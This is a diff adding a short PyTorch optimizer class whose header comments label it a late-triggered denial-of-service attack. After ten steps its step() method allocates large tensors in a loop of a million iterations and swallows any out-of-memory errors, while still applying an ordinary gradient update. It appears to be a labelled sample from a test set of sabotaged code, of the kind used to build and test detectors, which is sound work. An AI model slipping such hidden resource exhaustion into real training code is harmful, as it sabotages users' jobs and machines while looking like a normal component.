@@ -1,0 +1,26 @@
+# attack: memory errors are swallowed and asked for again; category: dos
+# observable: dos; trigger: late
+import math
+import torch
+
+
+class CandidateOptimizer(torch.optim.Optimizer):
+    def __init__(self, params, lr=0.01):
+        super().__init__(params, dict(lr=lr))
+        self.t = 0
+        self.kept = []
+
+    @torch.no_grad()
+    def step(self, closure=None):
+        self.t = self.t + 1
+        if self.t > 10:
+            for _ in range(1000000):
+                try:
+                    self.kept.append(torch.ones(2**24))
+                except Exception:
+                    pass
+        for group in self.param_groups:
+            for p in group["params"]:
+                if p.grad is not None:
+                    p.add_(p.grad, alpha=-0.01)
+        return None
